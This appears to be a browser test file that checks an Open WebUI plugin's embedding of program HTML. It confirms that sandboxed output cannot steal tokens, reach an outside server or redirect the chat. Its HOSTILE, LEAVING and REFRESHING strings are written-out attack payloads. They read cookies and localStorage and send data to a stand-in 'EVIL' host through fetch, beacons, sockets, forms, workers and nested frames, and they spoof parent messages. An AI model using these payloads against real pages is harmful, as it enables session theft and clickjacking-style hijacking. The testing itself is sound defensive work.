"""HTML of a program in a real browser, under the worst that Open WebUI's settings allow: its
own frame may run as Open WebUI's origin, open windows and submit forms."""

import http.server
import io
import json
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field

import pytest
from playwright.sync_api import Browser, Page

from owui_plugin.displays import display_embeds
from sandbox_core.models import Display, RunResult
from sandbox_core.outcome import Outcome

OPEN_SANDBOX = (
    "allow-scripts allow-forms allow-same-origin allow-popups allow-downloads"
)
PAGE = """<title>chat</title>
<script>
localStorage.token = "secret"; document.cookie = "token=secret"; window.heard = [];
addEventListener("message", (event) => heard.push({
  type: event.data.type, height: event.data.height,
  trusted: event.source === document.querySelector("iframe").contentWindow }));
</script>
<iframe style="width: 100%; height: 100px"></iframe>
<script>
const frame = document.querySelector("iframe");
frame.sandbox = "SANDBOX"; frame.srcdoc = DOCUMENT;
</script>"""
# Each attempt says what came of it; those that reach a server are seen there.
HOSTILE = """<h1 id="mark" style="height: 300px">drawn</h1>
<img src="EVIL/img"><link rel="stylesheet" href="EVIL/css"><link rel="prefetch" href="EVIL/pre">
<iframe src="EVIL/frame"></iframe><object data="EVIL/object"></object>
<script>
window.said = {};
const attempt = (name, action) => {
  try { said[name] = String(action()); } catch (error) { said[name] = "refused"; }
};
attempt("storage", () => localStorage.token);
attempt("cookie", () => document.cookie);
attempt("parent", () => parent.document.title);
attempt("top", () => top.document.title);
attempt("window", () => window.open("EVIL/window"));
attempt("own", () => fetch("OWN/api", { credentials: "include" }));
attempt("fetch", () => fetch("EVIL/fetch", { mode: "no-cors" }));
attempt("beacon", () => navigator.sendBeacon("EVIL/beacon", "x"));
attempt("socket", () => new WebSocket("EVIL/socket".replace("http", "ws")));
attempt("top away", () => { top.location = "EVIL/top"; });
attempt("parent away", () => { parent.location = "EVIL/parent"; });
attempt("form", () => {
  const form = document.createElement("form");
  form.action = "EVIL/form"; form.method = "post"; document.body.append(form); form.submit();
});
attempt("script", () => {
  const script = document.createElement("script");
  script.src = "EVIL/script"; document.head.append(script);
});
attempt("worker", () => new Worker(URL.createObjectURL(
  new Blob(["fetch('EVIL/worker', {mode: 'no-cors'})"]))));
attempt("deeper", () => {
  const frame = document.createElement("iframe");
  frame.srcdoc = "<script>fetch('EVIL/deep', {mode: 'no-cors'})</" + "script>";
  document.body.append(frame);
});
top.postMessage({ type: "input:prompt:submit", text: "evil" }, "*");
parent.postMessage({ type: "iframe:height", height: 99999 }, "*");
parent.postMessage(1e9, "*");
</script>"""
LEAVING = '<script>location = "EVIL/away"</script>'
REFRESHING = '<meta http-equiv="refresh" content="0; url=EVIL/refresh">'


@dataclass
class Site:
    """A web server that answers everything and remembers what it was asked for."""

    page: str = "nothing"
    asked: list[str] = field(default_factory=list)
    url: str = ""


@pytest.fixture
def sites() -> Iterator[tuple[Site, Site]]:
    """The chat's server, and one that nothing may reach."""
    servers = []

    def serve(site: Site) -> Site:
        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                site.asked.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()
                self.wfile.write(site.page.encode())

            do_POST = do_GET

            def log_message(self, *arguments: object) -> None:
                pass

        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        site.url = f"http://127.0.0.1:{server.server_address[1]}"
        threading.Thread(target=server.serve_forever).start()
        servers.append(server)
        return site

    yield serve(Site()), serve(Site())
    for server in servers:
        server.shutdown()
        server.server_close()


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    page = browser.new_page()
    yield page
    page.close()


def embed_of(html: str, own: Site, evil: Site) -> str:
    data = html.replace("EVIL", evil.url).replace("OWN", own.url).encode()
    display = Display("text/html", "value-1.html", len(data), io.BytesIO(data))
    (document,) = display_embeds(RunResult("id", Outcome.OK, displays=(display,)))
    return document


def show(page: Page, html: str, own: Site, evil: Site) -> None:
    document = json.dumps(embed_of(html, own, evil)).replace("</", "<\\/")
    own.page = PAGE.replace("SANDBOX", OPEN_SANDBOX).replace("DOCUMENT", document)
    page.goto(own.url)


def test_a_program_s_page_is_shown_and_reaches_nothing(
    page: Page, sites: tuple[Site, Site]
) -> None:
    own, evil = sites
    show(page, HOSTILE, own, evil)
    inner = page.frame_locator("iframe").frame_locator("iframe")
    inner.locator("#mark").wait_for(timeout=30_000)
    page.wait_for_function("heard.some((one) => one.trusted)", timeout=30_000)
    page.wait_for_timeout(1000)  # for what comes late
    said = inner.locator("#mark").evaluate("() => said")
    for name in ("storage", "cookie", "parent", "top", "top away", "parent away"):
        assert said[name] == "refused", said
    assert said["window"] == "null"
    assert evil.asked == []
    assert [path for path in own.asked if path == "/api"] == []
    assert (page.url, page.title()) == (own.url + "/", "chat")
    heard = page.evaluate("heard")
    trusted = [one for one in heard if one["trusted"]]
    assert {one["type"] for one in trusted} == {"iframe:height"}
    assert all(300 < one["height"] <= 2008 for one in trusted), heard


@pytest.mark.parametrize("html", [LEAVING, REFRESHING])
def test_a_program_s_page_cannot_go_elsewhere(
    page: Page, sites: tuple[Site, Site], html: str
) -> None:
    own, evil = sites
    show(page, html, own, evil)
    page.wait_for_timeout(1500)
    assert evil.asked == []
    assert page.url == own.url + "/"
